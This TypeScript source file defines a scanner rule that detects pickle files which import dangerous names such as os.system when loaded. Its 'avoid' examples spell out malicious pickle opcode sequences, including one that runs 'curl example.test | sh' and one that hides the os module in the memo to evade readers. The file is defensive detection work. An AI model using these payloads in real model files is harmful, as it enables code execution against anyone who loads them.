import { defineRule } from '../rule.ts';
import { conversionFixes, importPlace, isAllowed, isChance, isToldByTarget, spelled } from './importWords.ts';
import { judgeImport } from './knownImports.ts';

export const dangerousImport = defineRule({
  subject: 'pickle',
  meta: {
    id: 'pickle/dangerous-import',
    title: 'The pickle reaches for something dangerous',
    severity: 'error',
    description:
      'Loading the file looks up a name that runs commands, executes code, loads further pickles, touches files or the network, or reaches any other object by name. The name is resolved from what the opcodes do: assembled in pieces, taken from the memo, mapped from Python 2, registered as an extension or reached through attributes, it is still the same name. In a bytes value that nothing loads, it is a warning.',
    why: 'Unpickling is a program, not a parser: it calls whatever the file names, before any of your code sees a result. A checkpoint from a hub, a bucket or a colleague runs with your rights, your tokens and your GPU.',
    howToFix:
      'Do not load the file. If you need its weights, convert it with `weighbridge convert --tensors-only`, which never runs any of it, and treat the values as untrusted. If the name is yours and harmless, allow it in `weighbridge.yaml` under `allow-imports`.',
    avoid: [
      {
        file: 'model.pkl',
        pickle: "PROTO 2\nGLOBAL os system\nBINUNICODE 'curl example.test | sh'\nTUPLE1\nREDUCE\nSTOP",
        note: 'REDUCE calls `os.system` while the file is being loaded.',
      },
      {
        file: 'scattered.pkl',
        pickle:
          "PROTO 4\nSHORT_BINUNICODE 'os'\nSHORT_BINUNICODE 'x'\nPOP\nMEMOIZE\nPOP\nBINGET 0\nSHORT_BINUNICODE 'system'\nSTACK_GLOBAL\nSHORT_BINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP",
        note: 'The module comes out of the memo, where a reader that only looks backwards does not see it.',
      },
    ],
    prefer: [
      {
        file: 'weights.pkl',
        pickle: 'PROTO 2\nGLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nSTOP',
        note: 'Builds a dictionary, nothing else.',
      },
    ],
    references: [
      { title: 'Python documentation, pickle: the warning', url: 'https://docs.python.org/3/library/pickle.html' },
      {
        title: 'The Art of Hide and Seek: Making Pickle-Based Model Supply Chain Poisoning Stealthy Again',
        url: 'https://arxiv.org/abs/2508.19774',
      },
      { title: 'GHSA-vvpj-8cmc-gx39, pkgutil.resolve_name', url: 'https://github.com/advisories/GHSA-vvpj-8cmc-gx39' },
    ],
    cwe: [502, 94],
    atlas: ['AML.T0010.003', 'AML.T0011.000', 'AML.T0018.002'],
    owasp: ['ML06:2023', 'LLM03:2025'],
    nistAiRmf: ['MEASURE 2.7', 'MANAGE 3.1'],
    euAiAct: ['Article 15(5)'],
    since: '0.1.0',
  },
  check(part, report, artifact) {
    for (const entry of part.imports) {
      if (entry.state !== 'constant' || entry.module === null || entry.name === null) continue;
      const known = judgeImport(entry);
      if (known.tier !== 'dangerous' || isAllowed(entry, artifact) || isToldByTarget(entry) || isChance(entry))
        continue;
      // A tensor in a plain pickle: its bytes are a checkpoint of their own, which has been inspected as such.
      if (entry.loads !== undefined && entry.loads.literal > 0 && entry.loads.other === 0) continue;
      const what = `${spelled(entry)}, which ${known.does}`;
      const message =
        part.context === 'hidden'
          ? `A pickle hidden in a bytes value reaches for ${what}. Find out what loads it before you load this file.`
          : entry.call !== undefined
            ? `Loading it calls ${entry.call}: ${entry.module}.${entry.name} ${known.does}. Do not load this file.`
            : `Loading it imports ${what}. Do not load this file.`;
      report({
        message,
        ...(part.context === 'hidden' && { severity: 'warning' as const }),
        ...importPlace(part, entry),
        fixes: conversionFixes(artifact),
      });
    }
  },
});
